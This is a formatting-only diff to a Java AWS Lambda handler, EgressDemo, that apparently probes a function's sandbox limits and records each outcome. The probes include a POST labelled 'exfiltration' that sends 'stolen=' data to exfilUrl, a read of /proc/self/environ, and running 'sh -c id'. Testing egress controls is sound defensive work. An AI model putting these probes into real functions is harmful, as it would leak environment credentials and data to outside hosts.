@@ -48,7 +48,10 @@ public class EgressDemo implements RequestHandler<Map<String, Object>, Map<Strin
             return get(String.valueOf(allowedUrl));
         });
         record(context, outcomes, "exfiltration", () -> post(exfilUrl, "stolen=" + context.getFunctionName()));
-        record(context, outcomes, "readProcSelfEnviron",
+        record(
+                context,
+                outcomes,
+                "readProcSelfEnviron",
                 () -> "read " + Files.readAllBytes(Path.of("/proc/self/environ")).length + " bytes");
         record(context, outcomes, "writeTmp", () -> {
             Files.writeString(scratch, "written by " + context.getAwsRequestId());
@@ -99,7 +102,8 @@ public class EgressDemo implements RequestHandler<Map<String, Object>, Map<Strin
     }
 
     private static String body(HttpURLConnection connection) throws IOException {
-        InputStream stream = connection.getResponseCode() >= 400 ? connection.getErrorStream() : connection.getInputStream();
+        InputStream stream =
+                connection.getResponseCode() >= 400 ? connection.getErrorStream() : connection.getInputStream();
         if (stream == null) {
             return "";
         }
@@ -109,7 +113,8 @@ public class EgressDemo implements RequestHandler<Map<String, Object>, Map<Strin
     }
 
     private static String runId() throws IOException, InterruptedException {
-        Process process = new ProcessBuilder("sh", "-c", "id").redirectErrorStream(true).start();
+        Process process =
+                new ProcessBuilder("sh", "-c", "id").redirectErrorStream(true).start();
         String output;
         try (InputStream in = process.getInputStream()) {
             output = new String(in.readNBytes(MAX_BODY_BYTES), StandardCharsets.UTF_8);
